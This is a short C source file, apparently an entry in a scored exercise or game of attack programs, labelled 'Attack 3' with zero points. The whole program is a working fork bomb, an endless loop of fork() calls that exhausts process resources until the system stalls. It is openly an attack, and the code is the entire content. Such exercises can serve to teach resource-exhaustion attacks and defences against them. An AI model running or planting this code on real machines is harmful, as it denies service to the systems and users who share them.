/* Attack 3: forks until nothing is left, and goes on. */
/* Points: 0 */
/* Neighbour */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
